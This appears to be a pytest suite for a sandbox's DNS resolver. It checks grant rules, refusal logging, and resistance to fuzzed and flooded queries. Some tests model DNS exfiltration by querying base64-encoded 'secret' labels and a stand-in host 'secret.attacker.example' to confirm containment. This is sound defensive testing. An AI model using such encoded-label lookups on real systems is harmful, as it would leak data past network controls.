"""The name service of the sandbox: what programs make of its answers, and what hostile ones make of it."""

from __future__ import annotations

import shutil
from collections.abc import Iterator

import pytest

from tests.kernel.networked import Network, network

pytestmark = pytest.mark.needs("userns", "seccomp", "landlock")

GRANT = """
[server]
net = ["api.example.com", "*.example.org:8080", "udp://ntp.example.net:123"]
"""

ASK = """
def query(name, kind=1, ident=7, flags=0x100, extra=b"", additional=0):
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split(".") if part)
    head = struct.pack(">6H", ident, flags, 1, 0, 0, additional)
    return head + labels + b"\\0" + struct.pack(">2H", kind, 1) + extra

def udp(data, wait=2):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(wait)
        peer.connect(("127.0.0.1", 53))
        peer.send(data)
        try:
            return peer.recv(65535)
        except TimeoutError:
            return b""

def parts(answer):
    ident, flags, questions, answers, _, additional = struct.unpack_from(">6H", answer)
    return [ident, flags & 15, answers, additional]
"""


@pytest.fixture
def here() -> Iterator[Network]:
    with network() as found:
        yield found


def test_getaddrinfo_finds_one_public_address_of_a_granted_name(here: Network) -> None:
    code = """
found = socket.getaddrinfo("API.example.com.", 443, type=socket.SOCK_STREAM)
show([[each[0], each[4][0].startswith("11.")] for each in found])
show(socket.gethostbyaddr(found[0][4][0])[0])
show(sorted({each[4][0] for each in socket.getaddrinfo("localhost", 80)}))
show(socket.gethostbyname(socket.gethostname()))
show(len(socket.getaddrinfo("api.example.com", 443)))
"""
    done = here.run(GRANT, code)
    assert done.values == [[[2, True]], "api.example.com", ["127.0.0.1", "::1"], "127.0.0.1", 3]
    assert not done.refused()


def test_a_name_keeps_its_address_and_no_two_names_share_one(here: Network) -> None:
    code = """
names = [f"h{number}.example.org" for number in range(50)] * 2
found = [socket.gethostbyname(name) for name in names]
show([found[:50] == found[50:], len(set(found))])
"""
    assert here.run(GRANT, code).value() == [True, 50]


def test_what_else_may_be_asked_has_no_answer_and_does_no_harm(here: Network) -> None:
    code = (
        ASK
        + """
show([parts(udp(query("api.example.com", kind))) for kind in (28, 65, 64, 15, 2, 255)])
show([parts(udp(query("example.org", 1))), parts(udp(query("com"))), parts(udp(query("")))])
show(parts(udp(query("api.example.com", 1, extra=b"\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0", additional=1))))
"""
    )
    done = here.run(GRANT, code)
    assert done.values == [
        [[7, 0, 0, 0]] * 5 + [[7, 0, 1, 0]],
        [[7, 3, 0, 0], [7, 3, 0, 0], [7, 5, 0, 0]],
        [7, 0, 1, 1],
    ]
    assert done.refused() == ["example.org", "com"]


def test_a_refused_name_is_told_once_while_the_same_windows_are_open(here: Network) -> None:
    code = """
def look(name):
    try:
        socket.gethostbyname(name)
    except OSError:
        pass
for _ in range(3):
    look("one.example.com")
window("other")
look("one.example.com")
"""
    assert here.run(GRANT, code).refused() == ["one.example.com"] * 2


def test_services_and_texts_are_asked_outside_for_names_the_grant_names(here: Network) -> None:
    code = (
        ASK
        + """
answers = [udp(query(name, kind)) for name, kind in (
    ("api.example.com", 16), ("_mongodb._tcp.api.example.com", 33), ("a.b.example.org", 16), ("else.example.com", 16)
)]
show([parts(answer) for answer in answers])
show(answers[0].endswith(b"\\x04text"))
"""
    )
    done = here.run(GRANT, code)
    assert done.values == [[[7, 0, 1, 0]] * 3 + [[7, 3, 0, 0]], True]
    assert [message["kind"] for message in done.messages] == ["query"] * 3
    assert done.refused() == ["else.example.com"]


def test_nothing_is_asked_outside_of_the_window_that_grants_the_name(here: Network) -> None:
    """Who serves the domain reads the name: a question carries what another call has read."""
    code = (
        ASK
        + """
def both():
    names = ("c2VjcmV0.example.org", "_c2VjcmV0._x.api.example.com")
    return [parts(udp(query(name, 16)))[1:3] for name in names]
window("read"); show(both())
window("fetch"); show(both())
"""
    )
    grant = '[tools.fetch]\nnet = ["api.example.com", "*.example.org:8080"]\n[tools.read]\n'
    done = here.run(grant, code)
    assert done.values == [[[2, 0]] * 2, [[0, 1]] * 2]
    assert [message["kind"] for message in done.messages] == ["query"] * 2
    names = ["c2vjcmv0.example.org", "_c2vjcmv0._x.api.example.com"]
    assert done.refused("lookup") == names
    # What left is in the record as well.
    allowed = [each for each in done.events if each["act"] == "lookup" and each["allowed"]]
    assert [(each["object"], each["rule"]) for each in allowed] == [
        *((names[0], "tools.fetch.net[1]"), (names[1], "tools.fetch.net[0]"))
    ]


def test_an_argument_does_not_make_a_question_to_the_outside(here: Network) -> None:
    code = ASK + 'show([parts(udp(query("secret.attacker.example", kind))) for kind in (1, 16)])'
    done = here.run('[tools.fetch]\nnet = ["$arg:url"]\n', code)
    assert done.value() == [[7, 0, 1, 0], [7, 0, 0, 0]]
    assert not done.messages


def test_names_are_asked_over_tcp_as_well_in_any_pieces(here: Network) -> None:
    code = (
        ASK
        + """
with socket.create_connection(("127.0.0.1", 53), 5) as peer:
    one, two = query("api.example.com", ident=1), query("nobody.example.com", ident=2)
    data = b"".join(struct.pack(">H", len(each)) + each for each in (one, two, one))
    for at in range(len(data)):
        peer.sendall(data[at : at + 1])
    for _ in range(3):
        size = struct.unpack(">H", peer.recv(2, socket.MSG_WAITALL))[0]
        show(parts(peer.recv(size, socket.MSG_WAITALL))[:3])
with socket.create_connection(("127.0.0.1", 53), 5) as peer:
    peer.sendall(b"\\xff\\xff" + bytes(100))
    show(outcome(lambda: len(peer.recv(100))))
peers = [socket.create_connection(("127.0.0.1", 53), 5) for _ in range(60)]
show(socket.gethostbyname("api.example.com").startswith("11."))
"""
    )
    done = here.run(GRANT, code)
    assert done.values[:3] == [[1, 0, 1], [2, 3, 0], [1, 0, 1]]
    assert done.values[3] in (0, "ECONNRESET")
    assert done.values[4] is True


def test_hostile_questions_are_survived(here: Network) -> None:
    code = (
        ASK
        + """
import random
random.seed(5)
good = query("api.example.com")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
    peer.connect(("127.0.0.1", 53))
    for number in range(3000):
        data = bytearray(good)
        for _ in range(random.randrange(1, 6)):
            data[random.randrange(len(data))] = random.randrange(256)
        cut = random.randrange(len(data) + 1) if number % 3 == 0 else len(data)
        peer.send(bytes(data[:cut]) + random.randbytes(random.choice((0, 0, 1, 600, 3000))))
# As resolvers do: what is still in the way may take a slow machine longer than one wait.
again = lambda data: next(filter(None, (udp(data) for _ in range(20))))
show(parts(again(good)))
show(parts(again(struct.pack(">6H", 9, 0x100, 1, 0, 0, 0) + b"\\xc0\\x0c" + struct.pack(">2H", 1, 1))))
show(len(udp(struct.pack(">6H", 9, 0x8180, 1, 0, 0, 0) + good[12:], 0.2)))
"""
    )
    done = here.run(GRANT, code)
    assert done.values == [[7, 0, 1, 0], [9, 1, 0, 0], 0]


def test_a_flood_of_questions_keeps_no_call_waiting(here: Network) -> None:
    code = (
        ASK
        + """
import time
stop = False
def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.connect(("127.0.0.1", 53))
        number = 0
        while not stop:
            number += 1
            peer.send(query(f"x{number}.example.org"))
thread = threading.Thread(target=flood)
thread.start()
waits = []
for _ in range(20):
    began = time.monotonic()
    os.close(os.open("/etc/hosts", os.O_RDONLY))
    waits.append(time.monotonic() - began)
stop = True
thread.join()
show(max(waits) < 1)
show(socket.gethostbyname("api.example.com").startswith("11."))
"""
    )
    assert here.run(GRANT, code).values == [True, True]


NO_HOSTS = """
[tools.read]
fs_read = ["/opt"]
"""


@pytest.mark.parametrize("bare", [False, True], ids=["B", "C"])
def test_without_a_rule_of_hosts_a_refused_name_is_told_as_it_was_asked(here: Network, bare: bool) -> None:
    code = """
window("read")
def look_up(name):
    try:
        return socket.getaddrinfo(name, 443)
    except socket.gaierror as error:
        return error.errno
show(look_up("Api.Example.com") == socket.EAI_NONAME)
show(look_up("api.example.com") == socket.EAI_NONAME)
show(socket.gethostbyname("localhost"))
show(outcome(greeting, "192.0.2.1", 443))
"""
    done = here.run(NO_HOSTS, code, bare=bare)
    assert done.values == [True, True, "127.0.0.1", "ECONNREFUSED"]
    refused = [event for event in done.events if event["need"] == "connect"]
    assert [event["object"] for event in refused] == ["api.example.com", "192.0.2.1:443"]
    assert [event["rule"] for event in refused] == ["no-network"] * 2
    assert done.messages == []


def test_names_that_the_user_silenced_are_refused_and_not_told(here: Network) -> None:
    code = """
window("read")
for name in ("telemetry.example.com", "api.example.com"):
    try:
        socket.gethostbyname(name)
    except socket.gaierror:
        show(name)
"""
    done = here.run(NO_HOSTS + '[server.quiet]\nnet = ["telemetry.example.com"]\n', code)
    assert len(done.values) == 2
    assert done.refused() == ["api.example.com"]
    assert [event["object"] for event in done.events if event["quiet"]] == ["telemetry.example.com"]


@pytest.mark.skipif(shutil.which("node") is None, reason="no node")
def test_node_looks_up_and_connects_by_the_c_library_and_by_its_own_resolver(here: Network) -> None:
    code = """
const dns = require("node:dns"), net = require("node:net")
dns.lookup("api.example.com", (error, address) => {
  console.log(JSON.stringify(address.startsWith("11.")))
  dns.resolve4("api.example.com", (error, addresses) => {
    console.log(JSON.stringify(addresses.length == 1 && addresses[0] == address))
    dns.resolve("else.example.com", error => {
      console.log(JSON.stringify(error.code))
      net.connect(443, "api.example.com").on("data", data => {
        console.log(JSON.stringify(data.toString().trim()))
        net.connect(80, "api.example.com").on("error", error => {
          console.log(JSON.stringify(error.code))
          process.exit(0)
        })
      })
    })
  })
})
"""
    done = here.run(GRANT, [shutil.which("node") or "", "-e", code])
    assert done.values == [True, True, "ENOTFOUND", "api.example.com||443", "ECONNREFUSED"]
